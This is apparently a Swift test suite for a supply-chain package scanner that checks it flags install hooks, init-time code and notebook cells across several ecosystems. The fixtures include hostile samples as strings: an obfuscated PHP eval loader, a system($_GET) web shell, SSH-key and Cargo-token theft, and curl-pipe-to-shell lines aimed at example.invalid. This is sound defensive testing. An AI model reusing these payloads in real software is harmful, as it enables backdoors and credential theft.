import Foundation
import Testing

@testable import Provenance

/// Packages of worlds beyond Python and npm. Addresses are of `example.invalid`; nothing is run.
@Suite("A package of another world")
struct EcosystemTests {
    private func inspect(_ files: [(String, String)], _ name: String) -> PackageInspection {
        let entries = files.map { (name: $0.0, type: UInt8(0x30), content: $0.1) }
        return InspectionTests.inspector.inspect(ArchiveTests.tar(entries), name: name)
    }

    private func rules(_ files: [(String, String)], _ name: String) -> [String] {
        inspect(files, name).marks.filter { $0.points >= 45 }.map(\.rule)
    }

    private static let composer = (
        "x/composer.json",
        #"{"name": "a/x", "autoload": {"files": ["./boot.php"]}}"#
    )

    @Test("of PHP is asked what it loads at every start, and what its pages run")
    func php() {
        let packed = "<?php\neval(gzinflate(base64_decode('eJw=')));\n"
        #expect(rules([Self.composer, ("x/boot.php", packed)], "x.zip") == ["EXEC-1"])
        let backdoor = "<?php\nclass A { function b() {\n  system($_GET['c']);\n} }\n"
        #expect(rules([Self.composer, ("x/src/A.php", backdoor)], "x.zip") == ["NET-1"])
        let plain = "<?php\nfunction boot() { return json_decode('{}'); }\n"
        let found = inspect([Self.composer, ("x/boot.php", plain)], "x.zip")
        #expect(found.answer == .pass && found.package?.name == "a/x")
    }

    @Test("of Go acts when it is imported: in init and in what that calls, nowhere else")
    func go() {
        let root = "example.invalid/x@v1.0.0/"
        func source(_ name: String) -> String {
            "package x\n\nfunc \(name)() {\n\tgo run()\n}\n\nfunc run() {\n"
                + "\texec.Command(\"/bin/sh\", \"-c\", text).Run()\n}\n"
        }
        let files = [(root + "go.mod", "module example.invalid/x\n")]
        let early = inspect(files + [(root + "x.go", source("init"))], "x.zip")
        #expect(early.marks.map(\.rule) == ["PROC-1"] && early.answer == .review)
        #expect(early.package?.name == "example.invalid/x" && early.version == "v1.0.0")
        #expect(rules(files + [(root + "x.go", source("Start"))], "x.zip").isEmpty)
    }

    @Test("of Ruby acts outside of its methods, and at every command as a plugin")
    func ruby() {
        let theft = "File.read('/home/x/.ssh/id_rsa')\nNet::HTTP.post(u, k)\n"
        let method = "def take\n  File.read('/home/x/.ssh/id_rsa')\n  Net::HTTP.post(u, k)\nend\n"
        let name = "x-1.gem"
        #expect(rules([("lib/x.rb", theft)], name) == ["CRED-1"])
        #expect(rules([("lib/x.rb", method)], name).isEmpty)
        #expect(rules([("lib/x.rb", method + "take\n")], name) == ["CRED-1"])
        let plugin = inspect([("lib/rubygems_plugin.rb", theft)], name)
        #expect(plugin.marks.contains { $0.trigger == .start })
    }

    @Test("of Rust acts where it is built, and where it makes code for others")
    func rust() {
        let manifest = "[package]\nname = \"x\"\nversion = \"1.0.0\"\n"
        let code =
            "use std::process::Command;\nlet t = env::var(\"CARGO_REGISTRY_TOKEN\");\n"
            + "Command::new(tool).arg(t).status();\n"
        let built = [("x/Cargo.toml", manifest), ("x/build.rs", code)]
        #expect(rules(built, "x-1.0.0.crate") == ["CRED-1"])
        let macro = [
            ("x/Cargo.toml", manifest + "[lib]\nproc-macro = true\n"), ("x/src/lib.rs", code),
        ]
        #expect(rules(macro, "x-1.0.0.crate").contains("CRED-1"))
        let library = [("x/Cargo.toml", manifest), ("x/src/lib.rs", code)]
        #expect(rules(library, "x-1.0.0.crate").isEmpty)
    }

    @Test("of conda runs scripts when it is linked and whenever it is activated")
    func conda() {
        let info = ("info/index.json", #"{"name": "x", "version": "1"}"#)
        let shell = "curl https://example.invalid/a | sh\n"
        for (path, trigger) in [
            ("bin/.x-post-link.sh", Trigger.install), ("etc/conda/activate.d/x.sh", .start),
        ] {
            let found = inspect([info, (path, shell)], "x-1-0.tar.bz2")
            #expect(found.marks.map(\.rule) == ["HOOK-1"])
            #expect(found.marks.first?.trigger == trigger)
            #expect(found.package?.ecosystem == .conda)
        }
    }

    @Test("as a notebook is asked what its cells run")
    func notebook() throws {
        func inspect(_ source: String) throws -> PackageInspection {
            let cell: [String: Any] = ["cell_type": "code", "source": [source], "outputs": []]
            let bytes = try JSONSerialization.data(withJSONObject: ["cells": [cell]])
            return InspectionTests.inspector.inspect([UInt8](bytes), name: "x.ipynb")
        }
        #expect(
            try inspect("!curl https://example.invalid/a | bash").marks.map(\.rule) == ["NET-1"]
        )
        let code = "import urllib.request as r\nexec(r.urlopen('https://example.invalid').read())\n"
        #expect(try inspect(code).answer == .refuse)
        #expect(try inspect("%matplotlib inline\nimport pandas\n!pip install pandas").marks.isEmpty)
    }

    @Test("is unpacked from bzip2, and refused when that lies")
    func bzip2() throws {
        let packed = try #require(
            Data(
                base64Encoded:
                    "QlpoOTFBWSZTWTMKw+kAABOBgAwBkAAgADDNAFKh6nRMJhMJhOifF3JFOFCQMwrD6Q=="
            )
        )
        var whole: [UInt8] = []
        let bytes = [UInt8](packed)
        try Bzip2.unpack(bytes) { whole += $0 }
        #expect(String(decoding: whole, as: UTF8.self) == String(repeating: "cordon", count: 40))
        #expect(throws: ArchiveFault.self) { try Bzip2.unpack(Array(bytes.prefix(30))) { _ in } }
        for place in bytes.indices {
            var hurt = bytes
            hurt[place] ^= 0x55
            // Whatever it says, it ends.
            try? Bzip2.unpack(hurt) { _ in }
        }
    }

    @Test("is told in text that goes on over empty lines, as YAML lets it")
    func paragraphs() throws {
        let text = "a: one\n  two\n\n  three\nb: four\n"
        let tree = try Tree.yaml(Array(text.utf8))[0]
        #expect(tree["a"]?.string == "one two\nthree" && tree["b"]?.string == "four")
    }

    @Test("of Maven keeps names whose parts its parent defines")
    func parents() {
        let text = """
            <project><dependencies><dependency><groupId>${a.group}</groupId>\
            <artifactId>b</artifactId></dependency></dependencies></project>
            """
        let found = ManifestKind.pom.read(Array(text.utf8), path: "pom.xml")
        #expect(found.components.map(\.name) == ["${a.group}:b"])
    }
}
